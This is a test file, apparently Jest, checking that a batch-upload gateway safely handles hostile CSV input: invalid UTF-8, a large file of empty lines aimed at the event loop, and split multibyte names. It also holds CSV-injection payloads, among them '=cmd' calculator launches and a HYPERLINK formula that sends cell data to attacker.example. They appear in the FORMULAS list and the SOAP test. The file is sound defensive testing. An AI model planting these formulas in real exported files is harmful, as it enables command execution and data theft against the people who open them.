import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { VERIFY_LAYOUT } from '../../src/batches/batch-layouts';
import { runWorker } from '../support/batch-helpers';
import { eachDatabase } from '../support/databases';
import {
  batchTableCounts,
  downloadOutput,
  expectTheLoopKeptTurning,
  generated,
  healthy,
  namesAcrossPieces,
  SPLIT_NAMES,
  submitInChunks,
  uploadBatch,
  warmUp,
  watchingTheServer,
} from '../support/hostile-batches';
import { type RunningGateway, startGateway } from '../support/running-gateway';
import { firstText, postSoap } from '../support/soap-messages';

const HEADING = VERIFY_LAYOUT.columns.join(',');
const row = (mis: string, family = 'Testname') => `${mis},1026893096,${family},Sample,1976-08-16,2\n`;
const quoted = (value: string) => `"${value.replace(/"/g, '""')}"`;

/** Values a spreadsheet would run as formulas (OWASP, CSV injection), and how the output must carry them. */
const FORMULAS: [string, string][] = [
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://attacker.example/?x="&A1,"Click")', '\'=HYPERLINK("http://attacker.example/?x="&A1,"Click")'],
  ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
  // A field's surrounding white space is trimmed on reading: what is left must still not run.
  ['\t=1+1', "'=1+1"],
  ['\r=1+1', "'=1+1"],
  ['-12', '-12'],
  ['+44', '+44'],
  ['MIS-001', 'MIS-001'],
];

describe.each(eachDatabase())('hostile CSV batch files on %s', (_name, database) => {
  let running: RunningGateway;
  beforeAll(async () => {
    running = await startGateway({ database, env: { BATCH_WORKER_IN_PROCESS: 'false' } });
    await warmUp(running, 'barbara.bates', 'VERIFY_LEARNER', `${HEADING}\n${row('W')}`);
  });
  afterAll(() => running.stop());

  it('[RT-BATCH-CSV-01] a CSV batch holding invalid UTF-8 (Sam\\xff\\xfeple) is refused at upload with its byte offset and line, never repaired', async () => {
    const before = await batchTableCounts(running);
    const [head, tail] = `${HEADING}\n${row('A')}${row('B', 'Sam|ple')}`.split('|');
    const invalid = Buffer.concat([Buffer.from(head), Buffer.from([0xff, 0xfe]), Buffer.from(tail)]);
    const reply = await uploadBatch(running, { user: 'barbara.bates', type: 'VERIFY_LEARNER', format: 'CSV', content: invalid });
    expect(reply.status).toBe(400);
    expect(reply.body.error).toMatchObject({
      code: 'BATCH_FILE_INVALID',
      message: `The file is not valid UTF-8: an invalid byte sequence at byte ${invalid.indexOf(0xff)} (line 3)`,
    });
    expect(await batchTableCounts(running)).toEqual(before);
    expect(await healthy(running)).toBe(200);
  });

  it('[RT-BATCH-CSV-02] formulas sent as MISIdentifiers (=cmd|, =HYPERLINK, @SUM, +, -, tab, CR) come back in the output CSV as text a spreadsheet will not run', async () => {
    const file = HEADING + '\n' + FORMULAS.map(([value]) => row(quoted(value))).join('');
    const uploaded = await uploadBatch(running, { user: 'barbara.bates', type: 'VERIFY_LEARNER', format: 'CSV', content: file });
    expect(uploaded.status).toBe(202);
    await runWorker(running);
    const before = await batchTableCounts(running);
    const output = parse(await downloadOutput(running, 'barbara.bates', uploaded.body.jobId as number), {
      columns: true,
    }) as Record<string, string>[];
    expect(output.map((r) => r.MISIdentifier)).toEqual(FORMULAS.map(([, written]) => written));
    const cells = output.flatMap((r) => Object.values(r));
    expect(cells.filter((cell) => /^[=+@\t\r]|^-[^\d]/.test(cell) && !/^[+-]\d+$/.test(cell))).toEqual([]);
    expect(await batchTableCounts(running)).toEqual(before);
    expect(await healthy(running)).toBe(200);
  });

  it('[RT-BATCH-CSV-03] a formula sent as a MisIdentifier through SubmitAchievementBatchJob comes back in the error file as text', async () => {
    const request = fs
      .readFileSync(
        path.join(__dirname, '..', 'fixtures', 'contract', 'lrs-external', 'submit-achievement-batch-job-request.xml'),
        'utf8',
      )
      .replace('AO0001', 'AOB001')
      .replace('victor.vance', 'rita.reeves')
      .replace('MIS-0001', '=HYPERLINK(&quot;http://attacker.example&quot;)')
      .replace('<ser:Grade>Pass</ser:Grade>', '<ser:Grade>Not a grade</ser:Grade>');
    const submitted = await postSoap(`${running.baseUrl}/ExternalService.svc`, request, {
      SOAPAction: '"http://api.lrs.qcf.gov.uk/services/IExternalService/SubmitAchievementBatchJob"',
    });
    const jobId = firstText(submitted.body, 'JobId');
    expect(jobId).toMatch(/^\d+$/);
    await runWorker(running);
    const asked = await postSoap(
      `${running.baseUrl}/ExternalService.svc`,
      request.replace(/<ser:SubmitAchievementBatchJob>[\s\S]*<\/ser:SubmitAchievementBatchJob>/, (whole) =>
        whole
          .replace(/<ser:emailAddress>[\s\S]*<\/ser:achievements>/, `<ser:jobId>${jobId}</ser:jobId>`)
          .replace(/SubmitAchievementBatchJob/g, 'GetAchievementBatchJob'),
      ),
      { SOAPAction: '"http://api.lrs.qcf.gov.uk/services/IExternalService/GetAchievementBatchJob"' },
    );
    const errorFile = firstText(asked.body, 'AchievementBatchErrorFile') ?? '';
    const rows = parse(errorFile.replace(/&quot;/g, '"').replace(/&amp;/g, '&'), { columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.MisIdentifier)).toContain('\'=HYPERLINK("http://attacker.example")');
    expect(rows.every((r) => !r.MisIdentifier.startsWith('='))).toBe(true);
    expect(await healthy(running)).toBe(200);
  });

  it('[RT-BATCH-CSV-04] accented names whose 2-, 3- and 4-byte characters fall across the 512 KiB pieces of the stored file come back intact', async () => {
    const bytes = namesAcrossPieces(`${HEADING}\n`, (name) => row('M', name), '\n', '');
    const jobId = await submitInChunks(running, { user: 'barbara.bates', type: 'VERIFY_LEARNER', format: 'CSV', content: bytes });
    await runWorker(running);
    const output = await downloadOutput(running, 'barbara.bates', jobId);
    expect((parse(output, { columns: true }) as Record<string, string>[]).map((r) => r.FamilyName)).toEqual(
      SPLIT_NAMES.map(({ name }) => name),
    );
    expect(output).not.toContain('\uFFFD');
  });

  it('[RT-BATCH-CSV-05] a 4 MB CSV of empty lines neither holds the event loop at upload nor when a worker reads it', async () => {
    const emptyLines = generated(function* () {
      yield `${HEADING}\n`;
      const block = '\n'.repeat(1 << 20);
      for (let i = 0; i < 4; i++) yield block;
      yield row('A');
    });
    const uploading = await watchingTheServer(running, () =>
      uploadBatch(running, { user: 'barbara.bates', type: 'VERIFY_LEARNER', format: 'CSV', content: emptyLines() }),
    );
    expect(uploading.result.status).toBe(202);
    const working = await watchingTheServer(running, () => runWorker(running));
    for (const watched of [uploading, working]) {
      expectTheLoopKeptTurning(watched);
    }
    const job = (
      await running.gateway.dataSource.query('SELECT status, row_count FROM batch_jobs WHERE id = ?', [
        uploading.result.body.jobId,
      ])
    )[0];
    expect(job).toMatchObject({ status: 'SUCCESSFUL', row_count: 1 });
  });
});
